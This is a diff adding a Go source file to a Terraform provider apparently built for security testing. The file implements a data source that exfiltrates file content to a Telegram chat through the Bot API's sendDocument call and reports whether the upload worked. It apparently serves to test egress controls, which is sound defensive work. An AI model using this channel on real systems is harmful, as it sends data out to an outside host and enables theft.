@@ -0,0 +1,143 @@
+// Copyright (c) Datadog, Inc.
+// SPDX-License-Identifier: Apache-2.0
+
+package provider
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"mime/multipart"
+	"net/http"
+	"net/url"
+	"path/filepath"
+	"strings"
+	"time"
+
+	"github.com/datadog/terraform-provider-terrapwner/internal/utils"
+
+	"github.com/hashicorp/terraform-plugin-framework/datasource"
+	"github.com/hashicorp/terraform-plugin-framework/types"
+)
+
+// parseTelegramEndpoint returns the base URL of a Telegram Bot API server,
+// e.g. https://api.telegram.org or a self-hosted one.
+func parseTelegramEndpoint(endpoint string) (string, error) {
+	u, err := url.Parse(endpoint)
+	if err != nil || (u.Scheme != "https" && u.Scheme != "http") || u.Host == "" || u.RawQuery != "" {
+		return "", fmt.Errorf("expected a Telegram Bot API URL")
+	}
+	return strings.TrimSuffix(u.String(), "/"), nil
+}
+
+// readTelegram sends the content as a document to a Telegram chat with the bot
+// token of the configuration or environment, and updates the state.
+func (d *TerrapwnerExfilDataSource) readTelegram(ctx context.Context, data *TerrapwnerExfilDataSourceModel, apiURL string, content []byte,
+	network string, timeout time.Duration, resp *datasource.ReadResponse) {
+	data.ResponseCode = types.Int64Value(0)
+
+	filename := defaultExfilFilename
+	if !data.FilePath.IsNull() {
+		filename = filepath.Base(data.FilePath.ValueString())
+	}
+
+	token := data.TelegramBotToken.ValueString()
+	if data.TelegramBotToken.IsNull() {
+		token = d.snapshot.Getenv("TELEGRAM_BOT_TOKEN")
+	}
+
+	var remoteAddress exfilRemoteAddress
+	client := &http.Client{
+		Timeout:   timeout,
+		Transport: utils.LoggingTransport(newExfilTransport(network, timeout, &remoteAddress)),
+	}
+	statusCode, messageID, err := sendTelegramDocument(ctx, client, apiURL, token, data.TelegramChatID.ValueString(), filename, content)
+	data.RemoteAddress = types.StringValue(remoteAddress.String())
+	data.ResponseCode = types.Int64Value(int64(statusCode))
+	if err != nil {
+		data.Success = types.BoolValue(false)
+		data.FailReason = types.StringValue(fmt.Sprintf("Telegram exfiltration failed: %v", err))
+
+		// If we expect success but didn't get it, add an error
+		if data.ExpectSuccess.ValueBool() {
+			resp.Diagnostics.AddError(
+				"Exfiltration Failed",
+				fmt.Sprintf("Expected successful exfiltration but %s", data.FailReason.ValueString()),
+			)
+			return
+		}
+		resp.Diagnostics.Append(resp.State.Set(ctx, data)...)
+		return
+	}
+
+	data.Success = types.BoolValue(true)
+	data.FailReason = types.StringValue("")
+	data.ChunksSent = types.Int64Value(1)
+	data.ObjectKey = types.StringValue(filename)
+	data.MessageID = types.Int64Value(messageID)
+
+	// Save data into Terraform state
+	resp.Diagnostics.Append(resp.State.Set(ctx, data)...)
+}
+
+// sendTelegramDocument sends a document to a chat with the sendDocument method
+// of the Bot API and returns the HTTP status code of the response, 0 if none
+// was received, and the ID of the message.
+func sendTelegramDocument(ctx context.Context, client *http.Client, apiURL, token, chatID, filename string, content []byte) (int, int64, error) {
+	if token == "" {
+		return 0, 0, fmt.Errorf("no bot token: set telegram_bot_token or TELEGRAM_BOT_TOKEN")
+	}
+
+	var body bytes.Buffer
+	writer := multipart.NewWriter(&body)
+	if err := writer.WriteField("chat_id", chatID); err != nil {
+		return 0, 0, err
+	}
+	part, err := writer.CreateFormFile("document", filename)
+	if err != nil {
+		return 0, 0, err
+	}
+	if _, err := part.Write(content); err != nil {
+		return 0, 0, err
+	}
+	if err := writer.Close(); err != nil {
+		return 0, 0, err
+	}
+
+	// The token is part of the URL, so it is kept out of the errors
+	httpReq, err := http.NewRequestWithContext(ctx, http.MethodPost, apiURL+"/bot"+token+"/sendDocument", &body)
+	if err != nil {
+		return 0, 0, fmt.Errorf("invalid request")
+	}
+	httpReq.Header.Set("Content-Type", writer.FormDataContentType())
+	httpReq.Header.Set("User-Agent", utils.GetUserAgent())
+
+	httpResp, err := client.Do(httpReq)
+	if err != nil {
+		var urlErr *url.Error
+		if errors.As(err, &urlErr) {
+			err = urlErr.Err
+		}
+		return 0, 0, err
+	}
+	defer httpResp.Body.Close()
+	respBody, _ := io.ReadAll(io.LimitReader(httpResp.Body, 64*1024))
+
+	var result struct {
+		OK          bool   `json:"ok"`
+		Description string `json:"description"`
+		Result      struct {
+			MessageID int64 `json:"message_id"`
+		} `json:"result"`
+	}
+	if err := json.Unmarshal(respBody, &result); err != nil {
+		return httpResp.StatusCode, 0, fmt.Errorf("HTTP %d: invalid Bot API response", httpResp.StatusCode)
+	}
+	if !result.OK || httpResp.StatusCode < 200 || httpResp.StatusCode >= 300 {
+		return httpResp.StatusCode, 0, fmt.Errorf("HTTP %d: %s", httpResp.StatusCode, result.Description)
+	}
+	return httpResp.StatusCode, result.Result.MessageID, nil
+}